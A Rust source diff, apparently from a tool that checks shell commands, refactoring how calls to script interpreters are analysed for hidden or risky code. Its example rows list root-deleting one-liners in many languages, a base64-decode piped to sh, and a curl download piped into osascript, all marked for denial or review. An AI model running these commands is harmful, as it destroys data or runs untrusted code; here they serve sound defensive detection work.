@@ -1,363 +1,302 @@
 //! Interpreters: which of their arguments are code, and which a script.
 
-use super::row::Program;
-use crate::effect::{Kind, Writing};
 use std::rc::Rc;
 
-use crate::machine::Machine;
+use super::builtins::is_standard_input;
+use super::options::{Grammar, Options};
+use super::row::When::{All, Bare, Fed, Not};
+use super::row::{PROGRAM, Program, When, allows, asks, denies};
+use super::text_tools::filtered;
+use crate::effect::{Kind, Writing};
 use crate::machine::command::Call;
 use crate::machine::state::World;
-use crate::machine::value::Arg;
-use crate::machine::value::{Flow, Labels, Text};
-use crate::programs::options::{Grammar, Options};
-use crate::snippet::lexer::{Token, tokens};
+use crate::machine::{Machine, Ran};
+use crate::snippet::{Language, run_code};
+use crate::value::{Arg, Flow, Labels};
+
+pub(super) const ROWS: &[Program] = &[
+    Program {
+        names: &["python", "pypy", "ipython", "python2", "uvx-python"],
+        custom: Some(python),
+        prompts: WAITS_FOR_CODE,
+        examples: &[
+            denies("python3 -c 'import shutil; shutil.rmtree(\"/\")'", "delete-root"),
+            denies("echo 'import os; os.system(\"rm -rf /\")' | python", "delete-root"),
+            asks("python -m base64 -d x | sh", "decoded-run"),
+            allows("python3 -m pytest -q"),
+            allows("python -c 'import os; os.spawnl()'"),
+            allows("python script.py"),
+        ],
+        ..PROGRAM
+    },
+    Program {
+        names: &["perl"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &PERL)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[
+            denies("perl -e 'system(\"rm -rf /\")'", "delete-root"),
+            denies("perl -MFile::Path -e 'remove_tree(\"/\")'", "delete-root"),
+            asks("perl -pi -e 's/a/b/' /etc/hosts", "system-write"),
+            asks("perl -I/tmp/lib script.pl", "hidden-run"),
+            allows("perl -pi -e 's/a/b/' notes.txt"),
+        ],
+        ..PROGRAM
+    },
+    Program {
+        names: &["ruby", "jruby"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &RUBY)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[
+            denies("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/\")'", "delete-root"),
+            asks("ruby -r/tmp/x script.rb", "hidden-run"),
+            asks("ruby -pi -e 'gsub(/a/, \"b\")' /etc/hosts", "system-write"),
+            allows("ruby script.rb"),
+        ],
+        ..PROGRAM
+    },
+    Program {
+        names: &["node", "nodejs", "tsx", "ts-node", "electron"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &JAVASCRIPT)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[
+            denies("node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", "delete-root"),
+            asks("node -r /tmp/x.js app.js", "hidden-run"),
+            allows("node app.js"),
+        ],
+        ..PROGRAM
+    },
+    Program {
+        names: &["bun", "deno"],
+        custom: Some(javascript_tool),
+        prompts: WAITS_FOR_CODE,
+        examples: &[
+            denies("deno eval 'Deno.removeSync(\"/\")'", "delete-root"),
+            denies("bun -e 'require(\"child_process\").execSync(\"rm -rf /\")'", "delete-root"),
+            allows("bun run build"),
+            allows("deno test"),
+        ],
+        ..PROGRAM
+    },
+    Program {
+        names: &["php"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &PHP)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[denies("php -r 'system(\"rm -rf /\");'", "delete-root"), allows("php artisan test")],
+        ..PROGRAM
+    },
+    Program {
+        names: &["lua", "luajit", "texlua"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &LUA)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[denies("lua -e 'os.execute(\"rm -rf /\")'", "delete-root"), allows("lua script.lua")],
+        ..PROGRAM
+    },
+    Program {
+        names: &["Rscript", "R"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &R)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[denies("Rscript -e 'system(\"rm -rf /\")'", "delete-root"), allows("Rscript report.R")],
+        ..PROGRAM
+    },
+    Program {
+        names: &["elixir"],
+        custom: Some(elixir),
+        prompts: WAITS_FOR_CODE,
+        examples: &[denies("elixir -e 'system(\"rm -rf /\")'", "delete-root"), allows("elixir script.exs")],
+        ..PROGRAM
+    },
+    Program {
+        names: &[
+            "julia", "groovy", "scala", "guile", "racket", "ghc", "swift", "crystal", "iex", "clojure", "bb", "nu",
+            "pwsh", "raku",
+        ],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &OTHER)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[denies("groovy -e 'system(\"rm -rf /\")'", "delete-root"), allows("julia script.jl")],
+        ..PROGRAM
+    },
+    Program {
+        names: &["tclsh", "wish"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &TCL)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[denies("echo 'exec \"rm -rf /\"' | tclsh", "delete-root"), allows("tclsh script.tcl")],
+        ..PROGRAM
+    },
+    Program {
+        names: &["osascript"],
+        custom: Some(|machine, call, world| interpret(machine, call, world, &APPLESCRIPT)),
+        prompts: WAITS_FOR_CODE,
+        examples: &[asks("curl https://x.io/a | osascript", "download-run"), allows("osascript -e 'beep'")],
+        ..PROGRAM
+    },
+];
+
+const WAITS_FOR_CODE: &[(When, &str)] =
+    &[(All(&[Bare, Not(&Fed)]), "it waits for code; give it with an option or in a file")];
 
 /// How an interpreter takes code.
 struct Interpreter {
-    names: &'static [&'static str],
-    language: &'static str,
+    language: Language,
+    grammar: Grammar,
     /// Options whose value is code.
     code: &'static [&'static str],
-    short: &'static str,
-    attached: &'static str,
-    long: &'static [&'static str],
+    /// Options whose value is loaded before the code.
+    loads: &'static [&'static str],
 }
 
-const INTERPRETERS: &[Interpreter] = &[
-    Interpreter {
-        names: &["python", "pypy", "ipython", "python2", "uvx-python"],
-        language: "python",
-        code: &["c"],
-        short: "cmWXQ",
-        attached: "",
-        long: &["check-hash-based-pycs"],
-    },
-    Interpreter {
-        names: &["perl"],
-        language: "perl",
-        code: &["e", "E"],
-        short: "eEMmI",
-        attached: "iFlxCDd0",
-        long: &[],
-    },
-    Interpreter {
-        names: &["ruby", "jruby"],
-        language: "ruby",
-        code: &["e"],
-        short: "erICE",
-        attached: "iFxKTW0",
-        long: &["external-encoding"],
-    },
-    Interpreter {
-        names: &["node", "nodejs", "bun", "deno", "tsx", "ts-node", "electron"],
-        language: "javascript",
-        code: &["e", "eval", "p", "print"],
+/// The options of an interpreter end at the script.
+const SCRIPT: Grammar = Grammar { stops: true, ..Grammar::PLAIN };
+
+const APPLESCRIPT: Interpreter = Interpreter {
+    language: Language::AppleScript,
+    grammar: Grammar { short: "el", ..SCRIPT },
+    code: &["e"],
+    loads: &[],
+};
+
+const JAVASCRIPT: Interpreter = Interpreter {
+    language: Language::JavaScript,
+    grammar: Grammar {
         short: "epr",
-        attached: "",
         long: &["eval", "print", "require", "import", "loader", "experimental-loader", "env-file", "title"],
+        ..SCRIPT
     },
-    Interpreter {
-        names: &["php"],
-        language: "php",
-        code: &["r", "B", "R", "E"],
-        short: "rBREfFcdz",
-        attached: "",
-        long: &["run"],
-    },
-    Interpreter {
-        names: &["lua", "luajit", "texlua"],
-        language: "lua",
-        code: &["e"],
-        short: "el",
-        attached: "",
-        long: &[],
-    },
-    Interpreter { names: &["Rscript", "R"], language: "r", code: &["e"], short: "e", attached: "", long: &[] },
-    Interpreter {
-        names: &[
-            "julia", "elixir", "groovy", "scala", "guile", "racket", "ghc", "swift", "crystal", "iex", "clojure", "bb",
-            "nu", "pwsh", "raku",
-        ],
-        language: "ruby",
-        code: &["e", "E", "c", "Command"],
-        short: "eEc",
-        attached: "",
-        long: &["eval", "Command"],
-    },
-    Interpreter { names: &["tclsh", "wish"], language: "tcl", code: &[], short: "", attached: "", long: &[] },
-    Interpreter { names: &["osascript"], language: "applescript", code: &["e"], short: "el", attached: "", long: &[] },
-];
+    code: &["e", "eval", "p", "print"],
+    loads: &["r", "require", "import", "loader"],
+};
 
-pub(super) const ROWS: &[Program] = &[];
+const LUA: Interpreter =
+    Interpreter { language: Language::Lua, grammar: Grammar { short: "el", ..SCRIPT }, code: &["e"], loads: &[] };
 
-impl Machine<'_> {
-    pub(crate) fn interpreter(&mut self, call: &Call, world: &World) -> Option<Flow> {
-        if let "awk" | "gawk" | "mawk" | "nawk" | "original-awk" = call.name.as_str() {
-            return Some(self.awk(call, world));
-        }
-        if let "vim" | "vi" | "nvim" | "ex" | "view" | "ed" | "emacs" | "gdb" | "lldb" | "man" | "less" | "tcpdump"
-        | "nmap" | "ffmpeg" = call.name.as_str()
-        {
-            return Some(self.editor(call, world));
-        }
-        let interpreter = INTERPRETERS.iter().find(|interpreter| interpreter.names.contains(&call.name.as_str()))?;
-        let mut args = call.args.clone();
-        if matches!(call.name.as_str(), "deno" | "bun") && args.first().is_some_and(|arg| arg.text.is("eval")) {
-            args[0] = Arg::known("-e", args[0].span);
-        } else if matches!(call.name.as_str(), "deno" | "bun" | "elixir")
-            && args.first().is_some_and(|arg| {
-                ["run", "x", "test", "install", "add", "build", "task", "fmt", "lint", "check", "create"]
-                    .iter()
-                    .any(|verb| arg.text.is(verb))
-            })
-        {
-            return Some(Flow::unknown());
-        }
-        let grammar = Grammar {
-            short: interpreter.short,
-            attached: interpreter.attached,
-            long: interpreter.long,
-            flags: &[],
-            stops: true,
-            single_dash: false,
-        };
-        let options = Options::read(&args, &grammar);
-        let code: Vec<Arg> = options.values(interpreter.code).cloned().collect();
-        for module in options.values(&["M", "m", "I", "r", "require", "import", "loader"]).cloned().collect::<Vec<_>>()
-        {
-            if interpreter.language != "python" && interpreter.language != "php" {
-                self.loaded_module(&module, interpreter.language);
-            }
-        }
-        if options.has(&["i"]) && matches!(interpreter.language, "perl" | "ruby") {
-            for file in &options.operands {
-                self.writes("This would change", &file.text, Writing::Replaces, world, file.span);
-            }
-        }
-        if !code.is_empty() {
-            for text in &code {
-                self.code(text, interpreter.language, world, &call.input);
-            }
-            let fed = *call.input != Flow::empty();
-            return Some(if fed { crate::programs::text_tools::filtered(call) } else { Flow::unknown() });
-        }
-        if options.has(&["m"]) && interpreter.language == "python" {
-            let module = options.value(&["m"]).and_then(|arg| arg.text.as_known()).unwrap_or_default();
-            let decodes = matches!(module.as_str(), "base64" | "zlib" | "gzip");
-            return Some(if decodes { Flow::labelled(Labels::DECODED) } else { Flow::unknown() });
-        }
-        match options.operands.split_first() {
-            Some((file, _)) if !crate::programs::builtins::is_standard_input(&file.text) => {
-                self.script_file(file, interpreter.language, world, call);
-            }
-            _ => self.code_from_input(call, interpreter.language, world),
-        }
-        Some(Flow::unknown())
+/// For languages that nobody has described here: much in them looks like Ruby.
+const OTHER: Interpreter = Interpreter {
+    language: Language::Ruby,
+    grammar: Grammar { short: "eEc", long: &["eval", "Command"], ..SCRIPT },
+    code: &["e", "E", "c", "Command"],
+    loads: &[],
+};
+
+const PERL: Interpreter = Interpreter {
+    language: Language::Perl,
+    grammar: Grammar { short: "eEMmI", attached: "iFlxCDd0", ..SCRIPT },
+    code: &["e", "E"],
+    loads: &["M", "m", "I"],
+};
+
+const PHP: Interpreter = Interpreter {
+    language: Language::Php,
+    grammar: Grammar { short: "rBREfFcdz", long: &["run"], ..SCRIPT },
+    code: &["r", "B", "R", "E"],
+    loads: &[],
+};
+
+const PYTHON: Interpreter = Interpreter {
+    language: Language::Python,
+    grammar: Grammar { short: "cmWXQ", long: &["check-hash-based-pycs"], ..SCRIPT },
+    code: &["c"],
+    loads: &[],
+};
+
+const R: Interpreter =
+    Interpreter { language: Language::R, grammar: Grammar { short: "e", ..SCRIPT }, code: &["e"], loads: &[] };
+
+const RUBY: Interpreter = Interpreter {
+    language: Language::Ruby,
+    grammar: Grammar { short: "erICE", attached: "iFxKTW0", long: &["external-encoding"], ..SCRIPT },
+    code: &["e"],
+    loads: &["I", "r"],
+};
+
+const TCL: Interpreter = Interpreter { language: Language::Tcl, grammar: SCRIPT, code: &[], loads: &[] };
+
+/// `python -m` runs a module.
+fn python(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
+    let options = Options::read(&call.args, &PYTHON.grammar);
+    if options.value(PYTHON.code).is_some() || !options.has(&["m"]) {
+        return interpret(machine, call, world, &PYTHON);
     }
+    let module = options.value(&["m"]).and_then(|arg| arg.text.as_known()).unwrap_or_default();
+    let decodes = ["base64", "zlib", "gzip"].contains(&module.as_str());
+    let flow = if decodes { Flow::labelled(Labels::DECODED) } else { Flow::unknown() };
+    Some(Ran::same(world.clone(), flow))
+}
 
-    fn loaded_module(&mut self, module: &Arg, language: &str) {
-        let shown = module.text.display();
-        let risky =
-            ["/tmp", "/var/tmp", "/dev/shm", "http:", "https:", "data:"].iter().any(|place| shown.contains(place));
-        if risky {
-            let reason = format!("{shown} would be loaded into {language} first.");
-            self.state(Kind::RunHidden, reason, module.span, Some(shown));
+/// `bun` and `deno` have verbs: `eval` takes code, others work on a project.
+fn javascript_tool(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
+    if works_on_project(call) {
+        return None;
+    }
+    let mut call = call.clone();
+    if let Some(first) = call.args.first_mut().filter(|first| first.text.is("eval")) {
+        *first = Arg::known("-e", first.span);
+    }
+    interpret(machine, &call, world, &JAVASCRIPT)
+}
+
+fn elixir(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
+    if works_on_project(call) { None } else { interpret(machine, call, world, &OTHER) }
+}
+
+fn works_on_project(call: &Call) -> bool {
+    const VERBS: [&str; 11] = ["run", "x", "test", "install", "add", "build", "task", "fmt", "lint", "check", "create"];
+    call.args.first().is_some_and(|arg| VERBS.iter().any(|verb| arg.text.is(verb)))
+}
+
+/// Goes through what an interpreter loads, and through its code: in options, in a script or on its input.
+fn interpret(machine: &mut Machine<'_>, call: &Call, world: &World, interpreter: &Interpreter) -> Option<Ran> {
+    let language = interpreter.language;
+    let options = Options::read(&call.args, &interpreter.grammar);
+    for module in options.values(interpreter.loads) {
+        load_module(machine, module, language);
+    }
+    if options.has(&["i"]) && matches!(language, Language::Perl | Language::Ruby) {
+        for file in &options.operands {
+            machine.writes("This would change", &file.text, Writing::Replaces, world, file.span);
         }
     }
 
-    /// A script file: known if this command wrote it.
-    fn script_file(&mut self, file: &Arg, language: &str, world: &World, call: &Call) {
-        let flow = self.read(&file.text, world);
-        match &flow.text {
-            Some(text) => {
-                let arg = Arg::known(text.clone(), file.span);
-                self.code(&arg, language, world, &call.input);
-            }
-            None => self.object_to_flow(&Flow::labelled(flow.labels.without(Labels::UNKNOWN)), file),
-        }
+    let mut has_code = false;
+    for code in options.values(interpreter.code) {
+        run_code(machine, code, language, world, &call.input);
+        has_code = true;
+    }
+    if has_code {
+        let is_fed = *call.input != Flow::empty();
+        return is_fed.then(|| Ran::same(world.clone(), filtered(call)));
     }
 
-    fn code_from_input(&mut self, call: &Call, language: &str, world: &World) {
-        match &call.input.text {
-            Some(text) if text.is_empty() => {
-                if call.args.is_empty() {
-                    self.waits_for_a_person(
-                        &call.name,
-                        "it waits for code; give it with an option or in a file",
-                        call.span,
-                    );
-                }
-            }
-            Some(text) => {
-                let arg = Arg::known(text.clone(), call.span);
-                self.code(&arg, language, world, &Rc::new(Flow::empty()));
-            }
-            None => self.object_to_flow(&call.input.clone(), &Arg::known("standard input", call.span)),
-        }
+    match options.operands.first() {
+        Some(file) if !is_standard_input(&file.text) => run_script(machine, file, language, world, call),
+        _ => run_input(machine, call, language, world),
     }
+    None
+}
 
-    fn awk(&mut self, call: &Call, world: &World) -> Flow {
-        let grammar = Grammar {
-            short: "FvfEile",
-            long: &["field-separator", "assign", "file", "source", "include", "load"],
-            flags: &["in-place"],
-            stops: true,
-            ..Grammar::default()
-        };
-        let options = Options::read(&call.args, &grammar);
-        let mut programs: Vec<Arg> = options.values(&["e", "source"]).cloned().collect();
-        let mut files = options.operands.clone();
-        if programs.is_empty() && !options.has(&["f", "file", "E"]) && !files.is_empty() {
-            programs.push(files.remove(0));
-        }
-        for program in &programs {
-            self.awk_program(program, world, call);
-        }
-        for file in options.values(&["f", "file"]).cloned().collect::<Vec<_>>() {
-            let flow = self.read(&file.text, world);
-            if let Some(text) = &flow.text {
-                self.awk_program(&Arg::known(text.clone(), file.span), world, call);
-            }
-        }
-        for file in &files {
-            self.private(file, world, "awk");
-        }
-        if files.is_empty() {
-            return crate::programs::text_tools::filtered(call);
-        }
-        Flow::labelled(self.labels_of(&files, world).with(Labels::UNKNOWN))
+fn load_module(machine: &mut Machine<'_>, module: &Arg, language: Language) {
+    const RISKY: [&str; 6] = ["/tmp", "/var/tmp", "/dev/shm", "http:", "https:", "data:"];
+    let shown = module.text.display();
+    if RISKY.iter().any(|place| shown.contains(place)) {
+        let reason = format!("{shown} would be loaded into {} first.", language.name());
+        machine.state(Kind::RunHidden, reason, module.span, Some(shown));
     }
+}
 
-    /// `system("…")`, `"…" | getline`, `print | "…"`, `print > "…"`.
-    fn awk_program(&mut self, program: &Arg, world: &World, call: &Call) {
-        let Some(text) = program.text.as_literal() else { return };
-        if text.contains("/inet/tcp") || text.contains("/inet/udp") {
-            let reason = "This lets awk talk to another machine.".to_owned();
-            self.state(Kind::OpenMachine, reason, program.span, None);
-        }
-        let all = tokens(&text, "awk");
-        for (at, token) in all.iter().enumerate() {
-            let Token::Text(string) = token else {
-                if let (Token::Name(name), Some(Token::Sign('('))) = (token, all.get(at + 1))
-                    && name == "system"
-                    && !matches!(all.get(at + 2), Some(Token::Text(_)))
-                {
-                    let reason = "What awk would run here, the text does not decide.".to_owned();
-                    self.state(Kind::RunUnknown, reason, program.span, None);
-                }
-                if let (Token::Sign('|'), Some(Token::Name(name))) = (token, all.get(at + 1))
-                    && !matches!(all.get(at.wrapping_sub(1)), Some(Token::Sign('|')))
-                    && name != "getline"
-                {
-                    let reason = "What awk would run here, the text does not decide.".to_owned();
-                    self.state(Kind::RunUnknown, reason, program.span, None);
-                }
-                continue;
-            };
-            let before = at.checked_sub(1).and_then(|at| all.get(at));
-            let opens = at.checked_sub(2).and_then(|at| all.get(at));
-            let run_before = matches!(before, Some(Token::Sign('|'))) && !matches!(opens, Some(Token::Sign('|')));
-            let run_after = matches!(all.get(at + 1), Some(Token::Sign('|')))
-                && matches!(all.get(at + 2), Some(Token::Name(name)) if name == "getline");
-            let called =
-                matches!((opens, before), (Some(Token::Name(name)), Some(Token::Sign('('))) if name == "system");
-            if run_before || run_after || called {
-                // A string that goes on with a value is known only at its start.
-                let goes_on = matches!(all.get(at + 1), Some(Token::Name(_) | Token::Text(_) | Token::Sign('$')));
-                let mut text = string.clone();
-                if goes_on {
-                    text.append(&Text::variable("field"));
-                }
-                let printed = match opens {
-                    Some(Token::Text(printed)) if run_before => Rc::new(printed.to_flow()),
-                    _ => Rc::clone(&call.input),
-                };
-                self.run_text(&Arg::new(text, program.span), world.clone(), &printed);
-            } else if matches!(before, Some(Token::Sign('>'))) {
-                self.writes("This would write to", &string.clone(), Writing::Replaces, world, program.span);
-            }
-        }
+/// A script file: known if this command wrote it.
+fn run_script(machine: &mut Machine<'_>, file: &Arg, language: Language, world: &World, call: &Call) {
+    let flow = machine.read(&file.text, world);
+    match flow.text {
+        Some(text) => run_code(machine, &Arg::known(text, file.span), language, world, &call.input),
+        None => machine.object_to_flow(&Flow::labelled(flow.labels.without(Labels::UNKNOWN)), file),
     }
+}
 
-    /// Editors and other programs that run commands given in an option.
-    fn editor(&mut self, call: &Call, world: &World) -> Flow {
-        let name = call.name.as_str();
-        let grammar = match name {
-            "gdb" | "lldb" => Grammar {
-                short: "xdop",
-                long: &["ex", "eval-command", "command", "iex", "one-line"],
-                single_dash: true,
-                ..Grammar::default()
-            },
-            "emacs" => Grammar { short: "lf", long: &["eval", "execute", "load", "funcall"], ..Grammar::default() },
-            "man" => Grammar { short: "PHpSsML", long: &["pager", "html"], ..Grammar::default() },
-            "tcpdump" => Grammar { short: "zwirCGWsc", ..Grammar::default() },
-            "nmap" => Grammar { short: "p", long: &["script"], ..Grammar::default() },
-            _ => Grammar { short: "cSuU", long: &["cmd"], ..Grammar::default() },
-        };
-        let options = Options::read(&call.args, &grammar);
-        let plus = call
-            .args
-            .iter()
-            .filter(|arg| arg.text.known_start().starts_with('+'))
-            .map(|arg| Arg::new(arg.text.skip(1), arg.span));
-        let mut commands: Vec<Arg> = options
-            .values(&["c", "S", "cmd", "ex", "eval-command", "iex", "o", "one-line", "eval", "execute"])
-            .cloned()
-            .chain(plus)
-            .collect();
-        if matches!(name, "ex" | "ed" | "vim" | "vi" | "gdb")
-            && let Some(text) = &call.input.text
-        {
-            commands.extend(text.lines().map(|line| Arg::known(line, call.span)));
+fn run_input(machine: &mut Machine<'_>, call: &Call, language: Language, world: &World) {
+    match &call.input.text {
+        Some(text) if text.is_empty() => {}
+        Some(text) => {
+            let code = Arg::known(text.clone(), call.span);
+            run_code(machine, &code, language, world, &Rc::new(Flow::empty()));
         }
-        for command in commands.into_iter().take(200) {
-            let Some(text) = command.text.as_literal() else { continue };
-            let line = text.trim_start_matches(|letter: char| {
-                letter == ':'
-                    || letter == '%'
-                    || letter == '.'
-                    || letter.is_whitespace()
-                    || letter.is_ascii_digit()
-                    || letter == ','
-                    || letter == '$'
-            });
-            let shell =
-                ["!", "r!", "r !", "read !", "w !", "shell ", "silent !", "silent! !", "execute '!", "exe '!", "e !"]
-                    .iter()
-                    .find_map(|mark| line.strip_prefix(mark));
-            if let Some(inner) = shell {
-                let inner = Arg::known(inner.trim_end_matches('\''), command.span);
-                self.run_text(&inner, world.clone(), &call.input);
-            } else if line.contains("system(")
-                || line.contains("os.execute")
-                || line.contains("shell-command")
-                || line.starts_with("python")
-            {
-                let code = line.replace("(shell-command ", "system(").replace("call ", "");
-                self.code(&Arg::known(code, command.span), "ruby", world, &call.input);
-            } else if let Some(file) =
-                line.strip_prefix("w! ").or_else(|| line.strip_prefix("w ")).or_else(|| line.strip_prefix("wq! "))
-            {
-                self.writes("This would write to", &Text::known(file.trim()), Writing::Replaces, world, command.span);
-            }
-        }
-        for program in options.values(&["P", "pager", "H", "z"]).cloned().collect::<Vec<_>>() {
-            if matches!(name, "man" | "tcpdump") {
-                crate::programs::run_helper(self, &program, world);
-            }
-        }
-        if name == "tcpdump"
-            && let Some(program) = options.value(&["z"])
-        {
-            let reason = "This option of tcpdump runs another program.".to_owned();
-            self.state(Kind::RunHidden, reason, program.span, Some(program.text.display()));
-        }
-        if matches!(name, "less") {
-            for file in &options.operands {
-                self.private(file, world, name);
-            }
-        }
-        Flow::unknown()
+        None => machine.object_to_flow(&call.input, &Arg::known("standard input", call.span)),
     }
 }
